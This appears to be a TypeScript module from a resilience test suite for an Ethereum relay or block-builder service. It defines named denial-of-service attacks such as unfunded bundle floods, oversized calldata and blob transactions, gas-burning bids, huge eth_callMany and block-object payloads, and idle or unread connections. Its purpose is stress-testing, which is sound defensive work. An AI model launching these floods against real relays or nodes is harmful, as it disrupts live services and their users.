// What an attacker does, by name: keys that cost nothing, transactions without a wei, requests that are small to send and
// large to answer. It runs in the attacker's own process; its numbers come from the test.

import { createBodySigner, createKey } from "../../../shared/ethereum/signatures.ts";
import { rawTransaction, type TxOptions, testAccount } from "../txFactory.ts";
import { type FloodRequest, flood, type Tally } from "./flood.ts";
import { holdIdle, holdUnread } from "./heldSockets.ts";

/** What each attack is told. */
export interface AttackParams {
	/** The relay's or boost's. */
	readonly url: string;
	/** The network address that it comes from. */
	readonly from: string;
	/** Requests, connections or whatever the attack counts. */
	readonly count: number;
	readonly connections?: number;
	/** None is begun after so long, in ms. */
	readonly lastingMs?: number;
	/** An answer that has not come by then is given up, in ms. */
	readonly patienceMs?: number;
	/** Keys that requests are signed with, in turns; none unless said. */
	readonly keys?: number;
	/** The next block. */
	readonly block?: number;
	/** Bytes of calldata, gas, accounts, subscriptions: see the attack. */
	readonly size?: number;
	/** Wei per gas at most, of transactions. */
	readonly fee?: number;
	/** The first of its accounts. */
	readonly accounts?: number;
	/** A transaction that bids are on: its hash. */
	readonly target?: string;
	/** A contract. */
	readonly to?: string;
}

const CONNECTIONS = 32;
const LASTING_MS = 60_000;
const PATIENCE_MS = 30_000;
const GWEI = 10n ** 9n;
const ETHER = GWEI * GWEI;
/** What a block takes of one transaction. */
const BLOBS = 6;
/** Blocks of a range. */
const RANGE = 20;

/** Each ends when all is sent and answered; those that hold something hold it until the attacker ends. */
export const ATTACKS: Readonly<Record<string, (params: AttackParams) => Promise<Tally>>> = {
	/** mev_sendBundle: one transaction each, of accounts without a wei. */
	plainBundles: (params) =>
		floodOf(params, (i) => shareBundle(params, [{ tx: raw({ by: account(params, i), value: ETHER }) }])),

	/** mev_sendBundle of `size` accounts each. */
	crowdedBundles: (params) =>
		floodOf(params, (i) => {
			const size = params.size ?? 100;
			const body = Array.from({ length: size }, (_, j) => ({
				tx: raw({ by: account(params, i * size + j) }),
			}));
			return shareBundle(params, body);
		}),

	/** Transactions behind a gap with `size` bytes of calldata, of accounts without a wei. */
	gapped: (params) => {
		const data = Buffer.alloc(params.size ?? 0, 0x5a);
		const fees = { maxFeePerGas: params.fee ?? 0, maxPriorityFeePerGas: 0 };
		return floodOf(
			params,
			(i) => submission({ by: account(params, i), nonce: 9, gasLimit: 16_000_000, data, ...fees }),
			"/fast",
		);
	},

	/** Bids of `size` gas on `target` that burn it all, under one uuid. */
	heavyBids: (params) =>
		floodOf(params, (i) => {
			const by = account(params, 0);
			const gasLimit = params.size ?? 16_000_000;
			const backrun = raw({
				by,
				gasLimit,
				to: params.to ?? null,
				value: i + 1,
				maxFeePerGas: 2n * GWEI,
			});
			return {
				method: "eth_sendBundle",
				params: [{ txs: [params.target, backrun], replacementUuid: "one of mine" }],
			};
		}),

	/** eth_callMany of `size` empty calls. */
	emptyCalls: (params) => {
		const text = call("eth_callMany", `[[{"transactions":[${"{},".repeat((params.size ?? 1) - 1)}{}]}]]`);
		return floodOf(params, () => text);
	},

	/** Reads whose block is an object of `size` keys. */
	blockObjects: (params) => {
		const keys = Array.from({ length: params.size ?? 1 }, (_, i) => `"${i.toString(36)}":0`).join(",");
		const address = `"${account(params, 0).address}"`;
		const texts = [
			call("eth_getBalance", `[${address},{${keys}}]`),
			call("eth_call", `[{"to":${address}},{${keys}}]`),
			call("eth_callMany", `[[{"transactions":[{"to":${address}}],"blockOverride":{${keys}}}]]`),
			call("eth_callMany", `[[{"transactions":[{"to":${address}}]}],{"blockNumber":{${keys}}}]`),
		];
		return floodOf(params, (i) => texts[i % texts.length] ?? "");
	},

	/** eth_call, each of other calldata so that none is shared. */
	calls: (params) =>
		floodOf(params, (i) => ({
			method: "eth_call",
			params: [{ to: account(params, 0).address, data: numbered(i) }, "latest"],
		})),

	/** eth_getProof. */
	proofs: (params) =>
		floodOf(params, (i) => ({ method: "eth_getProof", params: [account(params, i).address, [], "latest"] })),

	/** rpc.discover. */
	discoveries: (params) => floodOf(params, () => ({ method: "rpc.discover", params: [] })),

	/** A call that is answered at once, in a request of `size` bytes more than it needs. */
	largeCalls: (params) => {
		const text = call("eth_chainId", "[]").replace("}", `,"x":"${"x".repeat(params.size ?? 0)}"}`);
		return floodOf(params, () => text);
	},

	/** Transactions with `size` bytes of calldata that searchers are shown. */
	shown: (params) => {
		const data = Buffer.alloc(params.size ?? 0, 0x5a);
		return floodOf(
			params,
			(i) => submission({ by: account(params, i), gasLimit: 16_000_000, maxFeePerGas: 2n * GWEI, data }),
			"/maxbackruns",
		);
	},

	/** Transactions whose fee cap is `fee`. */
	waiting: (params) =>
		floodOf(
			params,
			(i) =>
				submission({
					...{ by: account(params, i), gasLimit: 21_000 },
					...{ maxFeePerGas: params.fee ?? 0, maxPriorityFeePerGas: 0 },
				}),
			"/fast",
		),

	/** Transactions of six blobs each, 800 KB. */
	blobs: (params) =>
		floodOf(
			params,
			(i) => submission({ type: 3, blobs: BLOBS, by: account(params, i), maxFeePerBlobGas: GWEI }),
			"/fast",
		),

	/** Connections on which nothing is ever said. */
	idle: holdIdle,
	/** Websockets of `size` subscriptions to pending transactions, none of which is ever read. */
	unread: holdUnread,
};

interface Call {
	readonly method: string;
	readonly params: readonly unknown[];
}

/** One body for each number below `params.count`, as JSON text or as a call. */
function floodOf(params: AttackParams, bodyOf: (i: number) => Call | string, path = "/"): Promise<Tally> {
	const signers = Array.from({ length: params.keys ?? 0 }, () => createBodySigner(createKey()));
	function* requests(): Iterable<FloodRequest> {
		for (let i = 0; i < params.count; i++) {
			const made = bodyOf(i);
			const body = typeof made === "string" ? made : JSON.stringify({ jsonrpc: "2.0", id: i, ...made });
			const signer = signers[i % signers.length];
			const headers = signer === undefined ? {} : { "x-flashbots-signature": signer.sign(body) };
			yield { body, path, headers };
		}
	}
	return flood(requests(), {
		url: params.url,
		from: params.from,
		connections: params.connections ?? CONNECTIONS,
		lastingMs: params.lastingMs ?? LASTING_MS,
		patienceMs: params.patienceMs ?? PATIENCE_MS,
	});
}

function call(method: string, params: string): string {
	return `{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}`;
}

function submission(options: TxOptions): Call {
	return { method: "eth_sendRawTransaction", params: [raw(options)] };
}

function shareBundle({ block = 1 }: AttackParams, body: readonly object[]): Call {
	const inclusion = { block: quantity(block), maxBlock: quantity(block + RANGE) };
	return {
		method: "mev_sendBundle",
		params: [{ version: "v0.1", inclusion, body: body.map((entry) => ({ ...entry, canRevert: false })) }],
	};
}

function raw(options: TxOptions): string {
	return `0x${rawTransaction(options).toString("hex")}`;
}

function account({ accounts = 1_000_000 }: AttackParams, i: number) {
	return testAccount(accounts + i);
}

function numbered(i: number): string {
	return `0x${i.toString(16).padStart(64, "0")}`;
}

function quantity(value: number): string {
	return `0x${value.toString(16)}`;
}
